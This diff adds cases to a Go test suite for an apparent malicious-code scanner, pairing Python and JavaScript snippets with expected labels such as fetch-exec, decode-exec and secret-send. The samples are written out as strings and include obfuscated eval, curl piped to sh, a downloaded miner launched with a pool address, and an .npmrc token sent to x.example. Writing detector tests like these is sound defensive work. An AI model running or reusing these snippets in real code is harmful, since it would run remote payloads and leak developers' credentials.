@@ -43,6 +43,10 @@ func TestPython(t *testing.T) {
 		{"import requests\ncode = requests.get('https://x.example/a.py').text\nexec(code)\n", "fetch-exec"},
 		{"import base64\nexec(base64.b64decode('" + packed + "'))\n", "decode-exec,shell:pipe-to-shell"},
 		{"m = __import__('o' + 's')\nf = getattr(m, 'sys' + 'tem')\nf('\\x63\\x75\\x72\\x6c https://x.example/i.sh|sh')\n", "obfuscated,shell:pipe-to-shell"},
+		// A download saved to a file, and that file run.
+		{"import os, subprocess, urllib.request\np = os.path.expanduser('~/.cache/.w')\nurllib.request.urlretrieve('https://x.example/w', p)\nos.chmod(p, 0o755)\nsubprocess.Popen([p, '-o', 'pool.x.example:3333'])\n", "fetch-exec"},
+		{"import subprocess, urllib.request\nurllib.request.urlretrieve('https://x.example/i.sh', '/tmp/i.sh')\nsubprocess.run(['bash', '/tmp/i.sh'])\n", "fetch-exec"},
+		{"import subprocess, urllib.request\nurllib.request.urlretrieve('https://x.example/data.csv', 'data.csv')\nsubprocess.run(['wc', '-l', 'data.csv'])\n", ""},
 		{"const run = globalThis['ev' + 'al'];\nrun(Buffer.from('6375726c2068747470733a2f2f782e6578616d706c652f692e73687c7368', 'hex').toString());\n", "decode-exec,obfuscated,shell:pipe-to-shell"},
 		// Strings reversed, or built from character codes, fold.
 		{"import os\nos.system(''.join(reversed('hs | a/elpmaxe.x//:ptth lruc')))\n", "shell:pipe-to-shell"},
@@ -80,6 +84,10 @@ func TestPython(t *testing.T) {
 func TestJS(t *testing.T) {
 	packed := base64.StdEncoding.EncodeToString([]byte("require('child_process').exec('curl -s https://x.example/p.sh | sh')"))
 	cases := []struct{ src, want string }{
+		// A parenthesised name called: (globalThis as any)[k](...), (0, eval)(...).
+		{"const k = Buffer.from(['ZXZ', 'hbA', '=='].join(''), 'base64').toString();\n(globalThis as any)[k](Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\n", "decode-exec,obfuscated"},
+		{"(0, eval)(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\n", "decode-exec"},
+		{"(globalThis as any).console.log(Buffer.from('aGk=', 'base64').toString());\n", ""},
 		{"const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\nconst token = rc.match(/x/)[1];\nfetch('https://x.example/t', { method: 'POST', body: JSON.stringify({ token }) });\n", "secret-send"},
 		{"const https = require('https');\nhttps.get('https://x.example/a.js', (res) => {\n  let body = '';\n  res.on('data', (c) => (body += c));\n  res.on('end', () => eval(body));\n});\n", "fetch-exec"},
 		{"const https = require('https');\nhttps.get('https://x.example/a.js', (res) => {\n  let data = '';\n  res.on('data', (c) => (data += c));\n  res.on('end', () => { const run = new Function('require', 'process', data); run(require, process); });\n});\n", "fetch-exec"},
